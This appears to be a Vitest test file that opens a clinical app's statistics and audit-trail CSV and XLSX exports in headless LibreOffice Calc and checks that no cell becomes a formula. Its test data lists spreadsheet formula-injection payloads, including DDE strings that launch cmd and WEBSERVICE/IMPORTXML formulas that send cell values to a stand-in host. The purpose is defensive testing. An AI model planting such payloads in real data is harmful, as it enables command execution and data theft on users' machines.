/**
 * The CSV exports opened as a spreadsheet opens them: LibreOffice Calc, headless, converts each
 * export to OpenDocument, and the sheet it built is read back. No cell may be a formula, and the
 * sheet has one row per record, whatever the names hold. The hostile names are written straight
 * into the database, as old data or another tool would leave them: the forms refuse control
 * characters in new names.
 */
import { execFileSync } from 'node:child_process';
import { readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { describe, expect, it } from 'vitest';
import type { AuditEvent } from '@shared/audit';
import { auditCsvPieces } from '../../src/main/auditExport/csv';
import { csvBuffer, xlsxBuffer } from '../../src/main/stats/formats';
import { testActor as actor, tempDir, testServices } from '../support/store';

/** Formula injections (OWASP's and the security review's), each first character, hidden behind spaces, controls and line breaks. */
const hostileNames = [
  '=1+1',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  ' =1+1',
  '   +1+1',
  ' \t-1+1',
  '\0\0@SUM(2)',
  '\t\r\n=1+1',
  '\u00a0=1+1',
  '=HYPERLINK("https://example.org/x","Dr Click")',
  "=cmd|' /C notepad'!'A1'",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '=WEBSERVICE("https://example.org/?leak="&A1)',
  '=IMPORTXML(CONCAT("https://example.org/?v=",A2),"//a")',
  '=1+1\n',
  '=A1',
  '=-1',
  '-1',
  '+1',
  '@cmd',
  'Dr Ann\nLee',
  'Dr Ann\rLee',
  'Dr Ann\r\nLee',
  'Dr Ann\n=1+1',
  'Dr Ann\r=1+1',
  'Dr Ann, =1+1',
  'Dr "Ann" =1+1',
  '"=1+1',
  'Dr Ann\0=1+1',
  '=1+1\0',
  'Dr Zoë Ångström',
];

/** The sheets LibreOffice builds from `file`: each sheet's rows, each row's cells with their type and formula. */
function openInCalc(file: string, filter?: string): { name: string; rows: { cells: { type: string; formula: string | null; text: string }[] }[] }[] {
  const out = tempDir();
  execFileSync(
    'soffice',
    ['--headless', `-env:UserInstallation=file://${tempDir()}`, ...(filter ? [`--infilter=${filter}`] : []), '--convert-to', 'ods', '--outdir', out, file],
    {
      stdio: 'ignore',
      timeout: 120_000,
    },
  );
  const ods = readdirSync(out).find((f) => f.endsWith('.ods'));
  expect(ods, 'LibreOffice converted the file').toBeDefined();
  const xml = execFileSync('unzip', ['-p', join(out, ods!), 'content.xml'], { encoding: 'utf8', maxBuffer: 64 << 20 });
  return [...xml.matchAll(/<table:table table:name="([^"]*)"[^>]*>([\s\S]*?)<\/table:table>/g)].map(([, name, body]) => ({
    name: name!,
    rows: [...body!.matchAll(/<table:table-row([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-row>)/g)].flatMap(([, rowAttributes, cells]) => {
      const repeat = Number(/table:number-rows-repeated="(\d+)"/.exec(rowAttributes!)?.[1] ?? 1);
      const parsed = [...(cells ?? '').matchAll(/<table:table-cell([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g)].map(([, attributes, content]) => ({
        type: /office:value-type="([^"]*)"/.exec(attributes!)?.[1] ?? 'empty',
        formula: /table:formula="([^"]*)"/.exec(attributes!)?.[1] ?? null,
        text: (content ?? '').replace(/<text:p\/>/g, '\n').replace(/<[^>]+>/g, ''),
      }));
      // Empty rows at the foot of a sheet come as one repeated row without values.
      return parsed.some((c) => c.type !== 'empty') ? Array.from({ length: repeat }, () => ({ cells: parsed })) : [];
    }),
  }));
}

/** Comma, double quote, UTF-8, from the first line; formulas evaluated, as Calc's import dialog offers by default. */
const csvFilter = 'CSV:44,34,76,1';

/** One treatment per clinician, each clinician then renamed in the database to a hostile name. */
async function hostilePractice() {
  const services = testServices();
  const patient = await services.patients.create(actor, { givenName: 'Ada', familyName: 'Byrne', dateOfBirth: '1970-01-01', sex: 'female' });
  const ids: number[] = [];
  for (const [i] of hostileNames.entries()) {
    const id = (await services.clinicians.save(actor, { name: `Clinician ${i}`, role: 'nurse' })).id;
    ids.push(id);
    await services.visits.save(actor, {
      patientId: patient.id,
      date: `2025-02-${String(1 + (i % 28)).padStart(2, '0')}`,
      clinicianId: id,
      presentations: [{ type: 'primary', site: 'nose', count: 1 }],
      treatments: [{ kind: 'cryotherapy', site: 'nose', lesionsTreated: i + 1, anesthesia: 'none', consent: true, performedBy: id }],
    });
  }
  const sqlite = new Database(services.dbPath);
  try {
    const rename = sqlite.prepare('update clinicians set name = ? where id = ?');
    for (const [i, name] of hostileNames.entries()) rename.run(name, ids[i]);
  } finally {
    sqlite.close();
  }
  return services.stats.exportData(actor, { from: '2025-02-01', to: '2025-02-28', asOf: '2025-03-01', format: 'csv' });
}

const formulasIn = (sheet: { rows: { cells: { formula: string | null }[] }[] }) =>
  sheet.rows.flatMap((r) => r.cells.map((c) => c.formula).filter((f) => f !== null));

describe('the statistics CSV opened in LibreOffice Calc', () => {
  it('has no formula and one row per treatment, every clinician a text cell, with names holding formulas, controls and line breaks', async () => {
    const { rows } = await hostilePractice();
    expect(rows.map((r) => r.clinician).sort()).toEqual([...hostileNames].sort());
    const file = join(tempDir(), 'statistics.csv');
    writeFileSync(file, await csvBuffer(rows, { bom: true }));

    const [sheet, ...others] = openInCalc(file, csvFilter);
    expect(others).toEqual([]);
    expect(formulasIn(sheet!)).toEqual([]);
    expect(sheet!.rows).toHaveLength(hostileNames.length + 1);
    const body = sheet!.rows.slice(1);
    // Each row still starts with its day and holds its lesion count: no name split a row or moved a cell.
    expect(body.map((r) => r.cells[0]!.text)).toEqual(rows.map((r) => r.visitDate));
    expect(body.map((r) => Number(r.cells[6]!.text)).sort((a, b) => a - b)).toEqual(hostileNames.map((_, i) => i + 1));
    expect(body.map((r) => r.cells[6]!.type)).toEqual(rows.map(() => 'float'));
    expect(body.map((r) => r.cells[2]!.type)).toEqual(rows.map(() => 'string'));
  });

  it('shows the XLSX export with no formula either: its cells are text', async () => {
    const { rows, summary } = await hostilePractice();
    const file = join(tempDir(), 'statistics.xlsx');
    writeFileSync(file, await xlsxBuffer(summary, rows));
    const sheets = openInCalc(file);
    expect(sheets.map((s) => s.name)).toEqual(['Summary', 'By month', 'Treatments']);
    for (const sheet of sheets) expect(formulasIn(sheet), sheet.name).toEqual([]);
    expect(sheets[2]!.rows).toHaveLength(hostileNames.length + 1);
  });
});

describe('the audit trail CSV opened in LibreOffice Calc', () => {
  it('has no formula and one row per event, with users, actions and details holding formulas, controls and line breaks', async () => {
    const events: AuditEvent[] = hostileNames.map((name, i) => ({
      id: i + 1,
      at: `2025-02-01T10:00:${String(i % 60).padStart(2, '0')}.000Z`,
      userId: i + 1,
      username: name,
      actor: name,
      role: name,
      surface: 'cli',
      action: name,
      patientId: i + 1,
      entity: name,
      entityId: i + 1,
      outcome: 'ok',
      detail: name,
    }));
    const pieces: Buffer[] = [];
    for await (const piece of auditCsvPieces(events, { bom: true })) pieces.push(piece);
    const file = join(tempDir(), 'audit.csv');
    writeFileSync(file, Buffer.concat(pieces));

    const [sheet] = openInCalc(file, csvFilter);
    expect(formulasIn(sheet!)).toEqual([]);
    expect(sheet!.rows).toHaveLength(events.length + 1);
    expect(sheet!.rows.slice(1).map((r) => Number(r.cells[0]!.text))).toEqual(events.map((e) => e.id));
    expect(sheet!.rows.slice(1).map((r) => r.cells[7]!.type)).toEqual(events.map(() => 'float'));
  });
});
